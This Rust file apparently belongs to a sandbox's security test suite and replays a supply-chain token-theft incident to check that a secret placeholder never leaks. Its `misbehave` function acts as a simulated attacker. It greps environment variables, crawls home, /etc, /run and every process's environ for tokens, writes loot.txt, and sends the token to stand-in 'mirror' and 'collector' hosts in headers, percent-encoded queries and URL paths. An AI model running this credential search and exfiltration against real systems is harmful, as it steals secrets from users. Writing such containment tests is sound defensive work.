//! A program that looks for tokens wherever there are any, and sends them to its master.

use std::fs;
use std::path::{Path, PathBuf};

use belljar_gate::secret::{Binding, Place, Secret, Value};
use belljar_ledger::Event;

use super::actor::Acting;
use super::asked::{Asked, Before};
use super::calling::{Call, call};
use super::check::Check;
use super::incident::{Incident, Played, tried};
use super::left;
use super::outside::{COLLECTOR, MIRROR, Outside, PARTNER};
use super::stage::{Stage, unavailable};
use crate::commands::run::chance;
use crate::failure::Failure;

pub(super) const INCIDENT: Incident = Incident {
    name: "token-theft",
    when: "2025-08",
    happened: "Releases of a widely used build tool had been tampered with. Their installation \
               script searched the machine for tokens and keys, had the coding agents it found \
               there search as well, and published what it got. Thousands of tokens were lost.",
    attack: "search variables, files and processes for tokens; send them to three hosts; ask for an echo",
    play,
};

fn play(stage: &Stage<'_>) -> Result<Played, Failure> {
    let project = stage.folder("token-theft/project")?;
    let outside = Outside::open()?;
    let token = format!("tok-{:08x}{:08x}{:08x}", chance()?, chance()?, chance()?);
    let mut network = outside.network()?;
    network.secrets.push(secret(&token, outside.partner.port)?);
    let placeholder = network
        .secrets
        .first()
        .map(|secret| secret.placeholder().to_owned());
    let placeholder = placeholder.unwrap_or_default();
    stage.settle();
    let marker = format!("belljar-demo-token-{}", std::process::id());
    let act = stage
        .actor("token-theft", &marker)
        .workspace(&project)
        .set("PARTNER_PORT", outside.partner.port.to_string())?
        .set("MIRROR_PORT", outside.mirror.port.to_string())?
        .set("COLLECTOR_PORT", outside.collector.port.to_string())?
        .network(network);
    let report = stage.run(act)?;
    let misused = stage.state.ledger.of_run(report.id)?;
    let misused = misused
        .iter()
        .filter(|record| matches!(record.event, Event::SecretMisused { .. }))
        .count();
    let inside = report.kept.iter().any(|bytes| holds(bytes, &token));
    let kept = files_with(stage.state.folder(), &token)?;
    let strangers = [&outside.mirror, &outside.collector];
    let heard = |text: &str| {
        strangers
            .iter()
            .map(|server| server.heard(text))
            .sum::<usize>()
    };
    let asked = Asked::of(stage, &report, Before::default())?;
    let checks = vec![
        Check::same("the program ran to its end", 0, report.exit_code),
        Check::same(
            "the token in anything that came from inside",
            "not found",
            if inside { "found" } else { "not found" },
        ),
        Check::same("files of the state directory that hold the token", 0, kept),
        Check::same("times a stranger heard the token", 0, heard(&token)),
        Check::same(
            "times a stranger heard the placeholder",
            0,
            heard(&placeholder),
        ),
        Check::same(
            "times the host it belongs to heard the token",
            2,
            outside.partner.heard(&token),
        ),
        Check::holds(
            "misuse of the placeholder in the ledger",
            "at least 3",
            misused,
            misused >= 3,
        ),
        left::nothing("left on the host", report.id, &marker),
    ];
    Ok(Played {
        tried: tried(&report.kept[0]),
        checks,
        asked,
        notes: Vec::new(),
    })
}

fn secret(token: &str, port: u16) -> Result<Secret, Failure> {
    let host = format!("{PARTNER}:{port}").parse();
    let host = host.map_err(|e: belljar_gate::secret::BindingError| unavailable("bind", &e))?;
    let place = Place::header("Authorization", None).map_err(|e| unavailable("bind", &e))?;
    let binding =
        Binding::new(vec![host], &[], vec![place]).map_err(|e| unavailable("bind", &e))?;
    let value = Value::copy(token.as_bytes()).map_err(|e| unavailable("keep a token", &e))?;
    let name = "PARTNER_TOKEN".parse();
    let name = name.map_err(|e: belljar_gate::secret::SecretNameError| unavailable("name", &e))?;
    Secret::new(name, binding, value).map_err(|e| unavailable("open a secret", &e))
}

fn holds(bytes: &[u8], text: &str) -> bool {
    bytes
        .windows(text.len())
        .any(|window| window == text.as_bytes())
}

/// How many files below a directory hold a text.
fn files_with(folder: &Path, text: &str) -> Result<usize, Failure> {
    let search = || -> std::io::Result<usize> {
        let mut found = 0;
        let mut waiting = vec![folder.to_path_buf()];
        while let Some(folder) = waiting.pop() {
            for entry in fs::read_dir(folder)? {
                let entry = entry?;
                let kind = entry.file_type()?;
                // Templates are the host's own programs, and huge.
                if kind.is_dir() && entry.file_name() != "templates" {
                    waiting.push(entry.path());
                } else if kind.is_file() && holds(&fs::read(entry.path())?, text) {
                    found += 1;
                }
            }
        }
        Ok(found)
    };
    search().map_err(|error| unavailable("search the state directory", &error))
}

/// What the program inside does.
pub(super) fn misbehave(act: &mut Acting) {
    let token = act.variable("PARTNER_TOKEN");
    act.say("env | grep TOKEN", &token);
    let found = look_around(&token);
    act.say("search home, /etc, /run and every process for it", &found);
    let saved =
        fs::write("loot.txt", &token).map_or_else(|e| e.to_string(), |()| "done".to_owned());
    act.say("keep it in the workspace", &saved);
    let port = |name: &str| act.variable(name).parse().unwrap_or(0);
    let (partner, mirror) = (port("PARTNER_PORT"), port("MIRROR_PORT"));
    let collector = port("COLLECTOR_PORT");
    let spelled: String = token.bytes().map(|byte| format!("%{byte:02x}")).collect();
    for (what, name, port, request) in [
        (
            "use it where it belongs, which is allowed",
            PARTNER,
            partner,
            format!(
                "GET /v1/orders HTTP/1.1\r\nhost: {PARTNER}:{partner}\r\nauthorization: Bearer {token}"
            ),
        ),
        (
            "have that host show what it got",
            PARTNER,
            partner,
            format!(
                "GET /v1/echo HTTP/1.1\r\nhost: {PARTNER}:{partner}\r\nauthorization: Bearer {token}"
            ),
        ),
        (
            "send it to another allowed host",
            MIRROR,
            mirror,
            format!(
                "GET /v1/orders HTTP/1.1\r\nhost: {MIRROR}:{mirror}\r\nAUTHORIZATION: Bearer {token}"
            ),
        ),
        (
            "the same in the query, percent by percent",
            MIRROR,
            mirror,
            format!("GET /v1/orders?note={spelled} HTTP/1.1\r\nhost: {MIRROR}:{mirror}"),
        ),
        (
            "in another header of the host it belongs to",
            PARTNER,
            partner,
            format!("GET /v1/echo HTTP/1.1\r\nhost: {PARTNER}:{partner}\r\nx-note: {token}"),
        ),
        (
            "send it to the collector",
            COLLECTOR,
            collector,
            format!("GET /{token} HTTP/1.1\r\nhost: {COLLECTOR}:{collector}"),
        ),
    ] {
        let asked = Call {
            to: (name, port),
            name,
            request: &request,
        };
        match call(act, &asked) {
            Ok(answer) => act.say(what, &format!("{}: {}", answer.status, told(&answer.body))),
            Err(error) => act.say(what, &format!("failed: {error}")),
        }
    }
}

/// What an answer says of a token, on one line.
fn told(body: &str) -> String {
    let line = body.lines().find(|line| line.starts_with("authorization"));
    line.unwrap_or(body).chars().take(90).collect()
}

/// Whether something else than the placeholder looks like a token, in files and in processes.
fn look_around(placeholder: &str) -> String {
    let mut waiting: Vec<PathBuf> = ["/root", "/home", "/etc", "/run", "/belljar", "/tmp"]
        .map(PathBuf::from)
        .to_vec();
    let processes = fs::read_dir("/proc").into_iter().flatten().flatten();
    waiting.extend(processes.map(|process| process.path().join("environ")));
    let (mut files, mut found) = (0, Vec::new());
    while let Some(path) = waiting.pop() {
        if path.is_dir() && !path.is_symlink() {
            let entries = fs::read_dir(&path).into_iter().flatten().flatten();
            waiting.extend(entries.map(|entry| entry.path()));
        } else if let Ok(bytes) = fs::read(&path) {
            files += 1;
            let text = String::from_utf8_lossy(&bytes).replace(placeholder, "");
            if text.contains("tok-") {
                found.push(path.display().to_string());
            }
        }
    }
    if found.is_empty() {
        format!("nothing but the placeholder in {files} files")
    } else {
        format!("found in {}", found.join(", "))
    }
}
